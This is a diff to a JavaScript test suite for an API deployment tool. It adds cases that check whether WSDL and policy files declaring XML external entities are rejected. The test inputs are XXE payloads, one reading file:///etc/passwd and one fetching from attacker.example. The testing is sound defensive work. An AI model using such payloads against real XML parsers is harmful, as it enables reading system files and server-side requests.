@@ -86,6 +86,8 @@ describe('ApimDeploy core: api action', () => {
       ['a definition with a YAML error', { 'specs/pets.yaml': 'openapi: 3.0.1\ninfo:\n  title: [x\n' }, {}, /specs\/pets\.yaml:\d+.*not valid YAML/],
       ['a missing named value', { 'policies/api.xml': POLICY.replace('<value>test</value>', '<value>{{backend-key}}</value>') }, { policy: { kind: 'document', source: { kind: 'file', path: 'policies/api.xml' } } }, /policies\/api\.xml:4: named value '\{\{backend-key\}\}' does not exist/],
       ['a product that does not exist', {}, { products: ['gold'] }, /Product 'gold' does not exist/],
+      ['a WSDL with an external entity, naming the file and line', { 'specs/calc.wsdl': '<?xml version="1.0"?>\n<!DOCTYPE definitions [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<definitions xmlns="http://schemas.xmlsoap.org/wsdl/">&xxe;</definitions>' }, { spec: { kind: 'file', path: 'specs/calc.wsdl' } }, /^specs\/calc\.wsdl:3: the WSDL declares an external entity/],
+      ['an API policy with an external entity, naming the file and line', { 'policies/api.xml': '<!DOCTYPE policies [<!ENTITY xxe SYSTEM "https://attacker.example/x">]>\n<policies><inbound>&xxe;</inbound></policies>' }, { policy: { kind: 'document', source: { kind: 'file', path: 'policies/api.xml' } } }, /^policies\/api\.xml:1: the policy declares an external entity/],
     ];
     for (const [name, overrides, settings, expected] of cases) {
       it(name, async () => {
